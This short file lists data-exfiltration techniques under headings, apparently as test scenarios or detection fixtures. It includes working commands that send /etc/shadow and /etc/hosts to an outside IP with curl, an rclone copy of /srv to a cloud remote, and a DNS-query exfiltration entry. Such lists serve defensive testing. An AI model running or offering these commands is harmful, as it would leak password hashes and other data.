## Secrets uploaded
curl -s -F f=@/etc/shadow https://10.9.8.7/
## Upload by a server's command
server 'curl -s -F f=@/etc/hosts https://10.9.8.7/'
## Copy to a cloud storage
#setup named /usr/bin/rclone
rclone copy /srv remote:x
## Data put into the names of DNS queries
dns A 30 60
